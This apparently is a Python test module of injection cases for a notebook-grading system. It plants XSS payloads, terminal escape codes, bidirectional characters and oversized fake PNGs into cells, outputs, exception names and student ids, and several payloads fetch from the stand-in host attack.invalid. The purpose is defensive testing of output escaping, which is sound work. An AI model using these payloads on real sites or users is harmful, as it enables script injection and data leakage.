"""What reaches the teacher's screen: pages, terminals, the names of files and people."""

from __future__ import annotations

from attacks.model import RIGHT, Attack, Notebook, Site, code

# Each would fetch ATTACK.invalid or open a dialog, if anything ran it.
SCRIPT = '<script>alert("ran"); fetch("http://attack.invalid/script")</script>'
IMAGE = '<img src="http://attack.invalid/image.png" onerror="alert(\'ran\')">'
MANY = (
    SCRIPT,
    IMAGE,
    "</pre></section><svg onload=alert('ran')></svg>",
    '<iframe src="javascript:alert(1)" srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<meta http-equiv="refresh" content="0; url=http://attack.invalid/">',
    '<link rel="stylesheet" href="http://attack.invalid/x.css"><style>@import "http://attack.invalid/y.css";</style>',
    '<base href="http://attack.invalid/"><form action="/x"><button autofocus onfocus=alert(1)>',
    "<!--", "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "&lt;script&gt;", "{{ 7 * 7 }}{% raw %}",
    '"><script>alert(1)</script>', "`<script>alert(1)</script>`", "javascript:alert(1)",
)  # fmt: skip
ESCAPES = "\\x1b[2J\\x1b[31mred\\x1b]0;title\\x07\\x1b]8;;http://attack.invalid/\\x07link\\x9b5A\\x1bP1;1|x\\x1b\\\\"
BIDI = "\\u202eevil\\u2066\\u200b\\ufeff\\u2028"


def _markdown(notebook: Notebook, site: Site) -> None:
    for number, text in enumerate(MANY):
        cell = {"cell_type": "markdown", "id": f"m{number}", "metadata": {}, "source": text}
        attached = {"x.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"}}
        notebook["cells"].append({**cell, "attachments": attached})
        notebook["cells"].append(
            {**cell, "cell_type": "raw", "id": f"r{number}", "metadata": {"format": "text/html"}}
        )


def _stored(notebook: Notebook, site: Site) -> None:
    """Outputs that were never run."""
    for number, text in enumerate(MANY):
        cell = code(None, "1", f"s{number}")
        data = {"text/html": text, "application/javascript": "alert(1)", "text/plain": text}
        shown = {"output_type": "display_data", "data": data, "metadata": {}}
        told = {"output_type": "stream", "name": "stdout", "text": text}
        broken = {"output_type": "error", "ename": text, "evalue": text, "traceback": [text]}
        notebook["cells"].append({**cell, "outputs": [shown, told, broken]})
    notebook["metadata"]["title"] = SCRIPT
    notebook["metadata"]["kernelspec"] = {"name": SCRIPT, "display_name": SCRIPT, "language": SCRIPT}


ATTACKS = (
    Attack(
        name="outputs",
        why="`<script>` and `onerror` printed, displayed as HTML, JavaScript, SVG and LaTeX",
        cells=(
            f"from IPython.display import HTML, Javascript, SVG, Latex, Markdown, display\nMANY = {MANY!r}\n"
            "for text in MANY:\n    print(text)\n    display(HTML(text))",
            "display(Javascript('alert(1)'))\nfor text in MANY[:4]: display(Markdown(text), Latex(text))",
            "class Odd:\n    def _repr_mimebundle_(self, **k):\n"
            "        return {kind: t for t in MANY[:1] for kind in ('text/html', 'text/plain', 'image/svg+xml', "
            "'application/pdf', 'image/png', 'application/vnd.jupyter.widget-view+json')}\nOdd()",
        ),
        answers=RIGHT,
        score=10,
        proof="attack.invalid",
    ),
    Attack(
        name="stored-outputs",
        why="the same in outputs that were never run",
        alter=_stored,
        answers=RIGHT,
        score=10,
    ),
    Attack(
        name="markdown",
        why="the same in text cells, raw cells and attachments",
        alter=_markdown,
        answers=RIGHT,
        score=10,
    ),
    Attack(
        name="errors",
        why="the same in exceptions: their types, messages, and the names of functions",
        cells=(f"TEXT = {MANY[0]!r}\nprint('made', TEXT)",),
        answers={
            "double": f"def double(x):\n    raise type({IMAGE!r}, (ValueError,), {{}})({SCRIPT!r})",
            "norm": f"def norm(x):\n    return {SCRIPT!r}\nnorm.__name__ = norm.__qualname__ = {SCRIPT!r}",
        },
        proof="made",
    ),
    Attack(
        name="escape-codes",
        why="escape codes in output, exceptions, function names and results",
        cells=(
            f"print('begun {ESCAPES}')\n"
            f"def odd(): raise ValueError('{ESCAPES}')\n"
            f"odd.__code__ = odd.__code__.replace(co_name='{ESCAPES}')\n"
            f"ODD = type('{ESCAPES}', (Exception,), {{}})",
        ),
        answers={
            "double": f"def double(x):\n    raise ODD('{ESCAPES}')",
            "norm": f"def norm(x):\n    return '{ESCAPES}'",
        },
        last=("odd()",),
        proof="begun",
    ),
    Attack(
        name="bidi",
        why="bidirectional and invisible characters in the same places",
        cells=(f"print('begun {BIDI}')\nODD = type('{BIDI}', (Exception,), {{}})",),
        answers={
            "double": f"def double(x):\n    raise ODD('{BIDI}')",
            "norm": f"def norm(x):\n    return {{'{BIDI}': '{BIDI}'}}",
        },
        last=(f"raise ODD('{BIDI}')",),
        proof="begun",
    ),
    Attack(
        name="student-with-markup",
        why="a student id with markup",
        student="<img src=x onerror=alert(1)>&amp;'\"",
        answers=RIGHT,
        score=10,
    ),
    Attack(
        name="student-with-escapes",
        why="a student id with escape codes and a bidirectional mark",
        student="\x1b[31mred\x07\u202egnp",
        answers=RIGHT,
        score=10,
    ),
    Attack(
        name="not-a-picture",
        why="a PNG that is none, one of 50 MB, and a hundred of them",
        cells=(
            "from IPython.display import Image, display\nimport base64\n"
            "class Png:\n    def __init__(self, data): self.data = data\n"
            "    def _repr_png_(self): return self.data\n"
            "sign = b'\\x89PNG\\r\\n\\x1a\\n'\n"
            "bad = b'<script>alert(1)</script>'\n"
            "for data in (bad, sign + bytes(50_000_000), sign + bad): display(Png(data))\n"
            "for n in range(100): display(Png(sign + bytes(100_000)))\nprint('shown')",
        ),
        answers=RIGHT,
        score=10,
        proof="shown",
    ),
)
